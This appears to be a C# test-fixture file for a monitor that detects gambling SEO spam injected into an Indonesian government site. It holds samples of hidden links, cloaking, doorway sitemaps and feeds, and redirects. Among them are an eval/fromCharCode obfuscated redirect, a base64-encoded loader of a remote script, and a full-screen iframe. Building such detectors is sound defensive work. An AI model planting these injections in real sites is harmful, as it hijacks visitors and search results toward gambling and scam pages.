namespace MonitorBot.Core.Integrity.Cases;

/// <summary>A fourteenth set, written from the design alone, without having read the rule's code or words, and committed before it was judged.</summary>
internal static class InjectedFourteenth
{
    private const string Swapped = "Nikmati ribuan permainan seru dengan peluang menang besar setiap hari. Daftar gratis, transaksi kilat, layanan ramah sepanjang waktu.";

    public static readonly Case[] All =
    [
        Whole("RIMBAWIN: Tempat Bermain Paling Seru dan Terpercaya di Asia", Swapped),
        Whole("Kemenangan Besar Menanti Anda Setiap Hari – Gabung Sekarang Juga", Swapped),
        Whole("ZENITHPLAY – Akses Cepat, Stabil, dan Anti Blokir", "ZENITHPLAY menyediakan akses resmi terbaru untuk semua anggota. Masuk melalui tautan utama ini."),
        Whole("Portal Hiburan Digital Nomor Satu dengan Ribuan Pilihan Permainan", "Satu akun untuk semua permainan favorit, hadiah harian, dan jackpot progresif."),
        Whole("KOTA77 ~ Agen Resmi Slot88 Server Internasional", "Kota77 agen slot88 dengan kemenangan tinggi dan bonus harian."),
        Whole("Panen Cuan Tiap Menit Bareng Mesin Paling Gampang Bocor", "Modal receh jadi jutaan, pola terbaru dibagikan cuma-cuma oleh admin."),
        .. Titles(
            "NUSA189 Daftar Login Resmi Slot Gacor Gampang Menang Terbaru 2026",
            "Bocoran RTP Live Pragmatic Play Hari Ini Terakurat",
            "Angka Main Sidney Malam Ini, Bola Jatuh dan Shio Jitu",
            "Situs Judi Bola Parlay 3 Tim Hadiah Puluhan Juta",
            "BUKITSPIN | Sensasi Putar Gratis Tanpa Batas",
            "Slot Server Luar Negeri Anti Kalah Depo Dana 5K",
            "DISPERKIM88 - Link Masuk Disperkim88 Terbaru Anti Nawala",
            "Kode Syair HK Malam Ini Forum Prediksi Terlengkap"),

        new("fourteenth: description only promises", "meta") { Head = """<meta name="description" content="Bergabunglah bersama jutaan pemain lainnya, klaim bonus sambutan, lalu tarik hasil kemenangan Anda tanpa batas setiap saat.">""" },
        new("fourteenth: og of a brand's card", "meta") { Head = """<meta property="og:title" content="Kota77 - Masuk Akun Slot Resmi"><meta property="og:site_name" content="KOTA77"><meta property="og:image" content="https://kota77-img.pages.dev/banner.webp">""" },
        new("fourteenth: keywords of togel", "meta") { Head = """<meta name="keywords" content="bandar togel, togel online, togel macau, agen togel terpercaya, prediksi sgp">""" },

        new("fourteenth: canonical to a shop of words", "canonical") { Head = """<link rel="canonical" href="https://www.rumahsegarjaya.com/">""" },
        new("fourteenth: canonical to a folder at a foreign school", "canonical") { Head = """<link rel="canonical" href="https://stmarys-academy.edu.ng/wp-content/kota77/">""" },
        new("fourteenth: amp of ordinary words at a cheap host", "canonical") { Head = """<link rel="amphtml" href="https://halamancepat.site/disperkim/">""" },
        new("fourteenth: address of the card is another's", "canonical") { Head = """<meta property="og:url" content="https://taman-hiburan.shop/"><meta property="og:title" content="Taman Hiburan Keluarga Terbesar">""" },
        new("fourteenth: hreflang to shops of ordinary words", "hreflang") { Head = """<link rel="alternate" hreflang="id-ID" href="https://pesonasenja.com/"><link rel="alternate" hreflang="th" href="https://pesonasenja.com/th/"><link rel="alternate" hreflang="x-default" href="https://pesonasenja.com/">""" },
        new("fourteenth: hreflang to a brand", "hreflang") { Head = """<link rel="alternate" hreflang="en" href="https://nusa189.org/en/"><link rel="alternate" hreflang="vi" href="https://nusa189.org/vi/">""" },
        new("fourteenth: hreflang to a foreign land's house", "hreflang") { Head = """<link rel="alternate" hreflang="ja" href="https://gold-casino-navi.jp/"><link rel="alternate" hreflang="id" href="https://disperkim.kaltimprov.go.id/">""" },

        new("fourteenth: product with ratings", "json-ld") { Head = """<script type="application/ld+json">{"@context":"https://schema.org/","@type":"Product","name":"RIMBAWIN","description":"Tempat bermain terbaik","sku":"RW-1","brand":{"@type":"Brand","name":"RIMBAWIN"},"offers":{"@type":"Offer","priceCurrency":"IDR","price":"10000","availability":"https://schema.org/InStock","url":"https://rimbawin.site/"},"aggregateRating":{"@type":"AggregateRating","ratingValue":"4.9","reviewCount":"918273"}}</script>""" },
        new("fourteenth: questions on deposits", "json-ld") { Head = """<script type="application/ld+json">{"@type":"FAQPage","mainEntity":[{"@type":"Question","name":"Apa itu KOTA77?","acceptedAnswer":{"@type":"Answer","text":"KOTA77 adalah situs slot online dengan deposit mulai 5 ribu dan withdraw cepat."}}]}</script>""" },
        new("fourteenth: organisation of another name", "json-ld") { Head = """<script type="application/ld+json">{"@type":"Organization","name":"Bukitspin Official","url":"https://bukitspin.click/","logo":"https://bukitspin.click/logo.png"}</script>""" },

        new("fourteenth: box with a minus", "hidden") { Top = """<div style="position:absolute;top:-1500px"><a href="https://kota77.lol/">Kota77</a> <a href="https://rimbawin.site/">rimba win</a> <a href="https://nusa189.org/">nusa189 slot</a></div>""" },
        new("fourteenth: addresses of ordinary words, hidden", "hidden") { Foot = """<div style="display:none"><a href="https://pesonasenja.com/">pesona senja</a> <a href="https://rumahsegarjaya.com/">rumah segar</a> <a href="https://halamancepat.site/">main sekarang</a> <a href="https://lentera-malam.shop/">menang terus</a> <a href="https://gudang-hoki.online/">gudang hoki</a></div>""" },
        new("fourteenth: letters of the background's colour", "hidden") { Foot = """<p style="color:#fff;background:#fff;font-size:2px"><a href="https://kota77.lol/">slot gacor</a>, <a href="https://rimbawin.site/">slot maxwin</a></p>""" },
        new("fourteenth: box without height", "hidden") { Content = """<div style="height:0px;overflow:hidden;"><h2>Situs Slot Gacor</h2><p>Kota77 adalah situs slot gacor resmi dengan rtp live tertinggi.</p><a href="https://kota77.lol/">Daftar</a></div>""" },
        new("fourteenth: opacity and index", "hidden") { End = """<section style="opacity:0;position:absolute;z-index:-999"><a href="https://bukitspin.click/">bukitspin</a><a href="https://kota77.lol/">kota77 login</a></section>""" },
        new("fourteenth: class of a theme", "class rule") { Head = "<style>.wp-seo-box{text-indent:-9999px;height:1px;overflow:hidden}</style>", Foot = """<div class="wp-seo-box"><a href="https://kota77.lol/">situs slot resmi</a> <a href="https://rimbawin.site/">agen togel</a></div>""" },

        new("fourteenth: whole page for Googlebot", "cloaking") { ForGooglebot = new("", "") { Title = "RIMBAWIN: Tempat Bermain Paling Seru", Head = $"""<meta name="description" content="{Swapped}"><link rel="canonical" href="https://rimbawin.site/">""", Content = """<h1>RIMBAWIN</h1><p>Slot, togel, kasino langsung, dan taruhan bola dalam satu akun.</p><a href="https://rimbawin.site/daftar">Daftar</a>""" } },
        new("fourteenth: links for Googlebot of ordinary words", "cloaking") { ForGooglebot = new("", "") { Foot = """<a href="https://pesonasenja.com/">slot deposit dana</a> <a href="https://rumahsegarjaya.com/">slot qris</a> <a href="https://gudang-hoki.online/">gudang hoki slot</a>""" } },
        new("fourteenth: visitors of Google led to ordinary words", "cloaking") { LedTo = "https://gudang-hoki.online/m/?ref=go" },
        new("fourteenth: visitors of Google see a landing", "cloaking") { FromGoogle = new("", "") { Title = "Gudang Hoki Slot Resmi", Content = """<h1>Gudang Hoki</h1><a href="https://gudang-hoki.online/daftar">DAFTAR</a><a href="https://gudang-hoki.online/login">LOGIN</a><p>Slot gacor gampang menang</p>""" } },

        new("fourteenth: entries as news with a driver who won", "list") { Listed = [(ListKind.List, "/berita/peresmian-rumah", "Peresmian Rumah Layak Huni"), (ListKind.List, "/berita/ojol-menang", "Kisah Ojol Samarinda Bawa Pulang 300 Juta dari Mahjong Ways"), (ListKind.List, "/berita/pola-rahasia", "Pola Rahasia Spin Malam Hari yang Jarang Diketahui Pemain")] },
        new("fourteenth: entries of hints", "list") { Listed = [(ListKind.List, "/berita/rapat", "Rapat Koordinasi Kawasan Kumuh"), (ListKind.List, "/berita/jam-hoki", "Jam Hoki Bermain Gates of Olympus Minggu Ini Menurut Pakar")] },
        new("fourteenth: feed of brands", "feed") { Listed = [(ListKind.Feed, "/2026/11/20/rapat", "Rapat Koordinasi"), (ListKind.Feed, "/2026/11/21/nusa189", "NUSA189: Situs Slot Terbaik Asia Tenggara"), (ListKind.Feed, "/2026/11/21/rimbawin", "Rimbawin Link Alternatif dan Cara Daftar")] },
        new("fourteenth: feed leads elsewhere", "feed") { Listed = [(ListKind.Feed, "/2026/11/20/rapat", "Rapat Koordinasi"), (ListKind.Feed, "https://gudang-hoki.online/artikel/1", "Cara Cepat Kaya dari Rumah"), (ListKind.Feed, "https://gudang-hoki.online/artikel/2", "Trik Menang Beruntun Tanpa Modal")] },

        new("fourteenth: folder of slots", "sitemap") { Listed = [(ListKind.Sitemap, "/berita/rapat/", ""), (ListKind.Sitemap, "/slot/situs-slot-gacor/", ""), (ListKind.Sitemap, "/slot/slot-thailand/", ""), (ListKind.Sitemap, "/slot/slot-dana/", "")] },
        new("fourteenth: doorway folder of products", "sitemap") { Listed = [(ListKind.Sitemap, "/berita/rapat/", ""), (ListKind.Sitemap, "/shop/?product=mahjong-ways-2-rtp", ""), (ListKind.Sitemap, "/shop/?product=rtp-gacor-pg-soft", "")] },
        new("fourteenth: sitemap of brands in files", "sitemap") { Sitemap = (210, 19_000), Listed = [(ListKind.Sitemap, "/berita/rapat/", ""), (ListKind.Sitemap, "/wp-content/kota77.html", ""), (ListKind.Sitemap, "/wp-content/rimbawin.html", ""), (ListKind.Sitemap, "/wp-content/nusa189-login.html", "")] },

        new("fourteenth: on telephones only", "redirect") { Head = """<script>if(/Android|iPhone|Mobile/i.test(navigator.userAgent)){window.location.replace("https://m.kota77.lol/?r=gov")}</script>""" },
        new("fourteenth: refresh to ordinary words", "redirect") { Head = """<meta http-equiv="refresh" content="0;url=https://gudang-hoki.online/">""" },
        new("fourteenth: after a touch", "redirect") { End = """<script>document.addEventListener('click',function(){var d=new Date().getTime();if(!localStorage.k||d-localStorage.k>864e5){localStorage.k=d;window.open('https://rimbawin.site/?aff=99','_blank')}})</script>""" },

        new("fourteenth: letters by numbers", "script") { End = "<script>eval(String.fromCharCode(" + string.Join(',', "location.href='https://slot.kota77.lol/'".Select(letter => (int)letter)) + "))</script>" },
        new("fourteenth: box built by hand", "script") { End = """<script>var b=document.createElement("div");b.style.cssText="position:absolute;left:-9999em";b.innerHTML='<a href="https://kota77.lol/">slot gacor maxwin</a><a href="https://nusa189.org/">nusa189</a>';document.body.appendChild(b);</script>""" },
        new("fourteenth: loader of strangers", "script") { Head = "<script>(function(){var s=document.createElement('script');s.src=atob('" + Convert.ToBase64String("https://cdn-slotgacor.xyz/inject.js"u8) + "');document.head.appendChild(s)})()</script>" },
        new("fourteenth: frame of a lobby", "frame") { Top = """<iframe src="https://lobby.rimbawin.site/" style="position:fixed;inset:0;width:100%;height:100%;border:0;z-index:2147483647"></iframe>""" },

        new("fourteenth: Cyrillic among Latin", "disguise") { Title = "Ѕlоt Gасоr Нari Ini Тerреrсауа" },
        new("fourteenth: points between letters", "disguise") { Top = """<div style="display:none">s.l.o.t g.a.c.o.r m-a-x-w-i-n <a href="https://kota77.lol/">k0ta77</a></div>""" },

        new("fourteenth: Thai house with a swapped card", "other language") { Title = "สล็อตเว็บตรง แตกง่าย ฝากถอนไม่มีขั้นต่ำ", Head = """<meta name="description" content="เว็บสล็อตอันดับ 1 สมัครฟรี รับเครดิตทันที">""" },
        new("fourteenth: Japanese bags", "other language") { Title = "ルイヴィトン 財布 激安 通販 本物 安い", Head = """<meta name="description" content="送料無料、最大80%オフ。人気ブランド財布を激安価格で販売中。">""" },
        new("fourteenth: Vietnamese football", "other language") { Title = "Trực Tiếp Bóng Đá Kèo Nhà Cái 5 Hôm Nay" },
        new("fourteenth: Chinese film site", "other language") { Title = "开云体育官方网站 - 手机APP下载" },
        new("fourteenth: entries in Japanese", "other language") { Listed = [(ListKind.Sitemap, "/berita/rapat/", ""), (ListKind.List, "/item/8812", "【新品未使用】ナイキ スニーカー 送料無料"), (ListKind.List, "/item/8813", "【最安値】釣具 リール 中古 通販")] },

        new("fourteenth: pills in the card", "other spam") { Title = "Buy Viagra Online Without Prescription - Fast Delivery", Head = """<meta name="description" content="Generic sildenafil 100mg from $0.69 per pill. Worldwide shipping.">""" },
        new("fourteenth: essays hidden", "other spam") { Foot = """<div style="position:absolute;left:-9999px"><a href="https://best-essay-writers.com/">write my essay</a> <a href="https://essaypro-help.net/">cheap essay service</a></div>""" },
        new("fourteenth: replica watches at the foot", "other spam") { Foot = """<div style="display:none"><a href="https://replicawatch.is/">best replica watches</a> <a href="https://perfectrolex.io/">fake rolex</a></div>""" },
        new("fourteenth: loans in an entry", "other spam") { Listed = [(ListKind.List, "/berita/rapat", "Rapat Koordinasi"), (ListKind.List, "/berita/x", "Pinjaman Dana Tunai Cepat Cair Tanpa Jaminan Hubungi WA 0812-3456-7890")] },

        new("fourteenth: partners at the foot", "outbound") { Foot = """<div><h6>Partner</h6><a href="https://kota77.lol/">KOTA77</a> | <a href="https://rimbawin.site/">RIMBAWIN</a> | <a href="https://nusa189.org/">NUSA189</a> | <a href="https://bukitspin.click/">BUKITSPIN</a></div>""" },
        new("fourteenth: one paid link in a paragraph", "outbound") { Content = """<p>Masyarakat dapat memanfaatkan waktu luang dengan <a href="https://kota77.lol/">slot gacor</a> setelah bekerja bersama <a href="https://nusa189.org/">situs togel terpercaya</a>.</p>""" },
    ];

    private static IEnumerable<Case> Titles(params string[] texts) => texts.Select(text => new Case("fourteenth: " + text, "title") { Title = text });

    /// <summary>Title, description and card swapped together, the body left alone.</summary>
    private static Case Whole(string title, string description) => new("fourteenth: " + title, "title")
    {
        Title = title,
        Head = $"""<meta name="description" content="{description}"><meta property="og:title" content="{title}"><meta property="og:description" content="{description}">""",
    };
}
